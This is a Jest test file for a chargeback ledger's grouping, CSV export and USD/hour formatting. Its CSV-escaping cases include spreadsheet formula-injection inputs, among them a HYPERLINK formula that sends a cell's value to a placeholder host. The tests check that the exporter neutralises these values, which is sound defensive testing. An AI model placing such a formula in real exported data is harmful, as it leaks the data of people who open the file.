import { describe, expect, it } from '@jest/globals';
import { csvOf, figuresOf, rowsJson, statementOf } from '../../cli/ledger/chargeback-file.ts';
import { csv } from '../../cli/ledger/csv.ts';
import { hoursText, usdText } from '../../cli/ledger/figures.ts';
import { balancesOfRows, type ChargedRecord, chargebackOf } from '../../gateway/quota/chargeback.ts';
import { driftOf, expectedBalances } from '../../gateway/quota/drift.ts';
import type { Dimension, Scope } from '../../gateway/shared/amount.ts';
import { record } from '../support/counted-records.ts';

const MONTH = '2026-11';

/** A job of ada's with 10 USD, 7,200 GPU-seconds and 3,600 instance-seconds reserved. */
function job(admissionId: string, tags: readonly Scope[] = [], parts: Partial<ChargedRecord> = {}): ChargedRecord {
  const scopes: readonly Scope[] = ['org', 'department:research', 'team:vision', 'person:ada@example.com', ...tags];
  const amounts: readonly (readonly [Dimension, number])[] = [
    ['usdMicros', 10_000_000],
    ['gpuSeconds', 7_200],
    ['instanceSeconds', 3_600],
  ];
  const lines = scopes.flatMap((scope) =>
    amounts.map(([dimension, amount]) => ({ scope, window: MONTH, dimension, amount })),
  );
  return record({ admissionId, name: `job-${admissionId}`, lines, ...parts });
}

const finished = (
  usdMicros: number,
  seconds: number,
  savedUsdMicros: number | null = null,
): Partial<ChargedRecord> => ({
  state: 'finished',
  settlement: {
    consumed: [
      { dimension: 'usdMicros', amount: usdMicros },
      { dimension: 'gpuSeconds', amount: 2 * seconds },
      { dimension: 'instanceSeconds', amount: seconds },
    ],
    bill: null,
    savedUsdMicros,
  },
});

const rowsFor = (records: readonly ChargedRecord[], by?: 'team' | 'job' | 'tag:Project') => {
  const chargeback = chargebackOf(MONTH, by === 'job' ? 'jobs' : 'owners');
  for (const each of records) chargeback.add(each);
  return statementOf(MONTH, chargeback.rows(), by);
};

const UNPRICED = {
  ...({ type: 'ml.new.xlarge', count: 1, use: 'training', isAlternative: false } as const),
  usdMicrosPerHour: null,
  keptUsdMicrosPerHour: null,
};

const RECORDS = [
  job('1', ['tag:Project=atlas'], finished(1_234_567, 1_000, 333)),
  job('2', ['tag:Project=atlas']),
  job('3', ['tag:Project='], finished(1, 1)),
  job('4', [], { ...finished(0, 60), metered: [UNPRICED] }),
];

describe('chargeback', () => {
  it('has a row for each department, team, person and set of tags', () => {
    const owner = { month: MONTH, department: 'research', team: 'vision', person: 'ada@example.com' };
    expect(rowsJson(rowsFor(RECORDS))).toEqual([
      {
        ...owner,
        'tag:Project': '',
        ...{ jobs: 1, unpricedJobs: 0, settledUsd: '0.000001', reservedUsd: '0.000000' },
        ...{ gpuHours: '0.0006', instanceHours: '0.0003', spotSavedUsd: '0.000000' },
      },
      {
        ...owner,
        'tag:Project': 'atlas',
        ...{ jobs: 2, unpricedJobs: 0, settledUsd: '1.234567', reservedUsd: '10.000000' },
        ...{ gpuHours: '0.5556', instanceHours: '0.2778', spotSavedUsd: '0.000333' },
      },
      {
        ...owner,
        'tag:Project': null,
        ...{ jobs: 1, unpricedJobs: 1, settledUsd: '0.000000', reservedUsd: '0.000000' },
        ...{ gpuHours: '0.0333', instanceHours: '0.0167', spotSavedUsd: '0.000000' },
      },
    ]);
  });

  it('adds up integers, not rounded rows', () => {
    const { total, rows } = rowsFor(
      Array.from({ length: 10 }, (_, i) => job(String(i), [], finished(1, 1))),
      'job',
    );
    expect(rows).toHaveLength(10);
    expect(figuresOf(total)).toMatchObject({ jobs: 10, settledUsd: '0.000010', instanceHours: '0.0028' });
  });

  it('leaves out jobs of other months', () => {
    const other = { ...RECORDS[0], lines: [], admissionId: '9' } as ChargedRecord;
    expect(rowsFor([other]).rows).toEqual([]);
  });

  it('is grouped by a column, those without a tag included', () => {
    const text = csvOf(rowsFor(RECORDS, 'tag:Project'));
    expect(text.split('\r\n')).toEqual([
      'month,tag:Project,jobs,unpricedJobs,settledUsd,reservedUsd,gpuHours,instanceHours,spotSavedUsd',
      '2026-11,,1,0,0.000001,0.000000,0.0006,0.0003,0.000000',
      '2026-11,atlas,2,0,1.234567,10.000000,0.5556,0.2778,0.000333',
      '2026-11,,1,1,0.000000,0.000000,0.0333,0.0167,0.000000',
      '',
    ]);
  });

  it('names the one who submitted a job that somebody else updated, and tells for whom the ledger counts it, too', () => {
    const shared = job('1');
    const more = shared.lines.map((line) => ({ ...line, scope: 'person:ben@example.com' as const }));
    const updated = { ...shared, lines: [...shared.lines, ...more.slice(0, 3)] };
    const { rows } = rowsFor([updated]);
    expect(rows.map(({ labels }) => labels.person)).toEqual(['ada@example.com']);
    const unlike = driftOf(expectedBalances([updated]).balances(), balancesOfRows(rows, MONTH));
    expect([...new Set(unlike.map(({ scope }) => scope))]).toEqual(['person:ben@example.com']);
  });

  it('tells jobs apart that had the same name one after the other', () => {
    const [one, other] = [job('1', [], { name: 'same' }), job('2', [], { name: 'same' })];
    expect(rowsFor([one, other], 'job').rows.map(({ labels }) => [labels.job, labels.admissionId])).toEqual([
      ['same', '1'],
      ['same', '2'],
    ]);
  });
});

describe('csv', () => {
  it.each([
    ['plain text', 'atlas', 'atlas'],
    ['a comma', 'a,b', '"a,b"'],
    ['a quotation mark', 'a"b', '"a""b"'],
    ['a line break', 'a\r\nb', '"a\r\nb"'],
    ['a formula', '=1+1', "'=1+1"],
    ['a formula that calls out', '=HYPERLINK("http://x/?"&A1,"x")', '"\'=HYPERLINK(""http://x/?""&A1,""x"")"'],
    ['a plus', '+1', "'+1"],
    ['a minus', '-1', "'-1"],
    ['an at', '@SUM(A1)', "'@SUM(A1)"],
    ['a tab', '\t=1', "'\t=1"],
    ['a carriage return', '\r=1', '"\'\r=1"'],
    ['an equals sign elsewhere', 'a=1', 'a=1'],
  ])('%s', (_name, value, text) => {
    expect(csv([[value, 'x']])).toBe(`${text},x\r\n`);
  });

  it('leaves figures as they are', () => {
    expect(csv([[{ figure: '-0.000001' }]])).toBe('-0.000001\r\n');
  });
});

describe('figures', () => {
  it.each([
    [0, '0.000000'],
    [1, '0.000001'],
    [1_000_000, '1.000000'],
    [-1_500_000, '-1.500000'],
    [9_007_199_254_740_991, '9007199254.740991'],
  ])('%d micros are %s USD', (micros, text) => {
    expect(usdText(micros)).toBe(text);
  });

  it.each([
    [0, '0.0000'],
    [1, '0.0003'],
    [9, '0.0025'],
    [3_600, '1.0000'],
    [5_399, '1.4997'],
    [9_007_199_254_740_991, '2501999792983.6086'],
  ])('%d seconds are %s hours', (seconds, text) => {
    expect(hoursText(seconds)).toBe(text);
  });
});
